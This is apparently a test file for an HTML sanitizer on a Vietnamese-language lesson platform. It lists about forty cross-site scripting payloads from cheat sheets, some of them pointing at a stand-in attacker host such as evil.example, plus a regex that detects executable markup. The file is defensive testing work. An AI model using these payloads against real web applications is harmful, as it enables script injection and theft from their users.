import { sanitizeLessonHtml } from './lesson-html.sanitizer';

const ID = '3f2b6c1e-8a4d-4e5f-9a6b-7c8d9e0f1a2b';
const FILE = `/api/v1/files/${ID}`;

/** Payloads from common XSS cheat sheets; none may leave executable markup behind. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example"><input name=p></form>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div onclick="alert(1)">x</div>',
  '<body onload=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<p>ok</p><!--<script>alert(1)</script>-->',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
  '<img src="//evil.example/x.png">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  `<img src="${FILE} " onerror="alert(1)">`,
  `<img src="${FILE}" onerror=alert(1) onload=alert(2)>`,
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
  '<img src="javascript:alert(1)" srcset="javascript:alert(2) 1x">',
  `<img src="${FILE}" srcset="javascript:alert(1) 480w, ${FILE}/w960 960w">`,
  `<img src="${FILE}" srcset="data:text/html,<script>alert(1)</script> 480w">`,
  `<img src="${FILE}/../../../evil">`,
  `<img src="https://evil.example${FILE}">`,
  `<img src="${FILE}?x=javascript:alert(1)">`,
];

const EXECUTABLE =
  /<script|<svg|<iframe|<object|<embed|<form|<style|<meta|<link|<base|\son\w+\s*=|javascript:|data:text|vbscript:/i;

describe('sanitizeLessonHtml', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const clean = sanitizeLessonHtml(payload);
    expect(clean).not.toMatch(EXECUTABLE);
    // Sanitising is stable: a second pass changes nothing.
    expect(sanitizeLessonHtml(clean)).toBe(clean);
  });

  it('keeps the formatting a lesson needs, in Vietnamese', () => {
    const html =
      '<h2>Ghi nhớ</h2><p>Chị em <strong>cần</strong> <em>bảo mật</em> mật khẩu.</p><ul><li>Một</li></ul>' +
      '<table><thead><tr><th scope="col">Khoản</th></tr></thead><tbody><tr><td>Thu</td></tr></tbody></table>';
    expect(sanitizeLessonHtml(html)).toBe(html);
  });

  it('forces links to open safely', () => {
    expect(sanitizeLessonHtml('<a href="https://dichvucong.gov.vn">Cổng</a>')).toBe(
      '<a href="https://dichvucong.gov.vn" rel="noopener noreferrer nofollow" target="_blank">Cổng</a>',
    );
  });

  it('keeps images of uploaded files with their resized copies, and drops every other image', () => {
    const own = `<img src="${FILE}/w960" srcset="${FILE}/w480 480w, ${FILE}/w960 960w" alt="Sơ đồ" width="960" height="540" />`;
    expect(sanitizeLessonHtml(own)).toBe(own);
    expect(sanitizeLessonHtml(`<p>a<img src="${FILE}" alt="x" title="t" class="c" width="9e9px"></p>`)).toBe(
      `<p>a<img src="${FILE}" alt="x" /></p>`,
    );
    for (const src of [
      'https://x.example/a.png',
      'http://x.example/a.png',
      '//x.example/a.png',
      `${FILE}/w123`,
      `/api/v1/files/not-a-uuid`,
      'data:image/png;base64,iVBORw0KGgo=',
    ]) {
      expect(sanitizeLessonHtml(`<p>a<img src="${src}" alt="x"></p>`)).toBe('<p>a</p>');
    }
    // One foreign candidate spoils the whole srcset; the image keeps its own src.
    expect(sanitizeLessonHtml(`<img src="${FILE}" srcset="${FILE}/w480 480w, https://evil.example/x 960w">`)).toBe(
      `<img src="${FILE}" />`,
    );
  });

  it('keeps table spans but not other table attributes', () => {
    expect(
      sanitizeLessonHtml(
        '<table border="1"><tbody><tr><td colspan="2" rowspan="3" style="x">a</td></tr></tbody></table>',
      ),
    ).toBe('<table><tbody><tr><td colspan="2" rowspan="3">a</td></tr></tbody></table>');
  });

  it("keeps the lesson editor's table, without its sizing styles and column group", () => {
    // Exactly what TipTap 3 (@tiptap/extension-table, as configured in the web editor) sends for a 2 × 2
    // table with a header row: inline min-width styles and a <colgroup> the trainee's view has no use for.
    const fromEditor =
      '<table style="min-width: 50px;"><colgroup><col style="min-width: 25px;"><col style="min-width: 25px;"></colgroup>' +
      '<tbody><tr><th><p>Bước</p></th><th><p>Việc cần làm</p></th></tr>' +
      '<tr><td><p>1</p></td><td><p></p></td></tr></tbody></table><p></p>';
    const clean = sanitizeLessonHtml(fromEditor);
    expect(clean).toBe(
      '<table><tbody><tr><th><p>Bước</p></th><th><p>Việc cần làm</p></th></tr>' +
        '<tr><td><p>1</p></td><td><p></p></td></tr></tbody></table><p></p>',
    );
    expect(sanitizeLessonHtml(clean)).toBe(clean);
  });

  it('drops the fixed widths TipTap writes for a table with sized columns (e.g. pasted from Word)', () => {
    const sized =
      '<table style="width: 240px; background: url(https://tracker.example/x)"><colgroup><col style="width: 120px;">' +
      '<col style="width: 120px;"></colgroup><tbody><tr><td colspan="2" colwidth="120,120" style="text-align: right">' +
      '<p>Tổng</p></td></tr></tbody></table>';
    expect(sanitizeLessonHtml(sized)).toBe('<table><tbody><tr><td colspan="2"><p>Tổng</p></td></tr></tbody></table>');
  });
});
